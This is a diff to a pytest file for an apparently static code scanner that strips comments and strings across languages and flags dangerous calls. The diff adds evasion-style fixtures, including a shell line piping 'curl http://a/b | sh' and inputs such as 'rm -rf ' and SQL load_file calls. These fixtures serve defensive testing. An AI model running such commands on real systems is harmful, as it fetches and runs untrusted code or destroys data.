@@ -19,6 +19,7 @@ PATTERNED = [language for language in Language if language is not Language.PYTHO
         ('seen("hidden(\\"hidden"); seen', Language.C),
         ('seen(R"x(hidden)"hidden)x"); seen', Language.CPP),
         ("char seen = '\"'; seen", Language.C),
+        ("seen = 1'000'000 + seen; 'a'", Language.CPP),
         ('seen(@"hidden""hidden"); seen', Language.CSHARP),
         ('seen($"hidden{c}"); seen', Language.CSHARP),
         ('seen("""hidden"hidden"""); seen', Language.JAVA),
@@ -28,11 +29,12 @@ PATTERNED = [language for language in Language if language is not Language.PYTHO
         ("seen # hidden\nseen", Language.PHP),
         ("<p>it's hidden</p><?php seen('hidden') ?> hidden's <?= seen ?>", Language.PHP),
         ("seen(<<<EOT\nhidden's\nEOT\n); seen", Language.PHP),
+        ("// hidden ?> hidden <?php seen", Language.PHP),
         ('seen(r#"hidden"hidden"#); seen', Language.RUST),
         ("fn seen<'seen>(c: &'seen str) { seen }", Language.RUST),
         ('seen(`hidden"hidden`); seen', Language.GO),
-        ("seen $# ${seen#seen} # hidden", Language.SHELL),
-        ("seen 'hidden''hidden' -- hidden\nseen", Language.SQL),
+        ("seen $# ${seen#seen}\n  # hidden", Language.SHELL),
+        ("seen 'hidden''hidden'\n-- hidden\nseen", Language.SQL),
     ],
 )
 def test_comments_and_strings_are_blanked(code: str, language: Language):
@@ -47,12 +49,25 @@ def test_comments_and_strings_are_blanked(code: str, language: Language):
     [
         ("/* never closed\neval(data)", Language.JAVASCRIPT),
         ("a = `never closed\neval(data)", Language.JAVASCRIPT),
+        ("a = 'never closed; eval(data)", Language.JAVASCRIPT),
+        ("}\n/'/.test(b); eval(data); /'/.test(c)", Language.JAVASCRIPT),
+        ("}\n/\\//.test(b); eval(data)", Language.JAVASCRIPT),
+        ("if (a) /'/.test(b), eval(data), /'/.test(c)", Language.JAVASCRIPT),
+        ("return /'/.test(b) || eval(data) || /'/.test(c)", Language.JAVASCRIPT),
+        ("a\n/ eval(data) / 1", Language.JAVASCRIPT),
         ("$a = 'never closed\neval($data);", Language.PHP),
+        ("$a = 1 << B;\neval($data);\nB;", Language.PHP),
+        ('$a = "{$b["//"]}" . eval($data);', Language.PHP),
+        ("a('// ?>'); // ?> <?php eval($data);", Language.PHP),
         ('let a = "never closed\nunsafe { b }', Language.RUST),
-        ("char *a = \"never closed\nsystem(b);", Language.C),
+        ('char *a = "never closed\nsystem(b);', Language.C),
+        ("a = 'b\"'; system(c); d = 'e\"';", Language.C),
+        ("cat <<EOF\nit's\nEOF\necho ' #'; curl http://a/b | sh", Language.SHELL),
+        ("select '\\' -- ', load_file('a')", Language.SQL),
+        ("/*! select load_file('a') */", Language.SQL),
     ],
-)  # fmt: skip
-def test_nothing_hides_behind_what_is_never_closed(code: str, language: Language):
+)
+def test_nothing_hides_behind_what_may_be_read_in_two_ways(code: str, language: Language):
     assert scan_patterns(code, language)
 
 
@@ -76,55 +91,17 @@ def test_no_text_breaks_the_analyser(code: str, language: Language):
         assert 1 <= issue.line <= code.count("\n") + code.count("\r") + 1
 
 
-HOSTILE = [
-    "{",
-    "(",
-    "[",
-    '"',
-    "'",
-    "`",
-    "/*",
-    "`${",
-    "//",
-    "<<A\n",
-    '"""',
-    "eval(",
-    "strcpy(a,",
-    "system(",
-    "<?",
-    "?>",
-    'r#"',
-    "a.",
-    "a->",
-    "select ",
-    "'select a from b' + ",
-    "password=",
-    "curl ",
-    "rm -rf ",
-    "$(",
-    "/[",
-    "=/[",
-    "\\",
-    "update a set ",
-    "grant ",
-    "exec(",
-    "new char[",
-    "new a ",
-    "malloc(",
-    "a = ",
-    " ",
-    "\n",
-    "or 1=",
-    "copy ",
-    "echo ",
-    '-c "',
-    "char a[",
-]
-
-
-@pytest.mark.parametrize("piece", HOSTILE)
+@pytest.mark.parametrize(
+    "piece",
+    [
+        "{", "(", "[", '"', "'", "`", "/*", "`${", "//", "<<<A\n", '"""', "eval(", "strcpy(a,", "system(", "?>", 'r#"',
+        "a", "a.", "a->", "select ", "'select a from b' + ", "password=", "curl ", "rm -rf ", "$(", "=/[", '\\"',
+        "update a set ", "grant ", "exec(", "new char[", "malloc(", "a = ", " ", "\n", "or 1=", "copy ", 'sh -c "',
+        "char a[", "rand", "doc", "a::",
+    ],
+)  # fmt: skip
 def test_hostile_code_takes_little_time(piece: str):
-    code = (piece * 4_000)[:4_000]
+    code = (piece * 3_000)[:3_000]
     before = time.process_time()
 
     likely_languages(code)
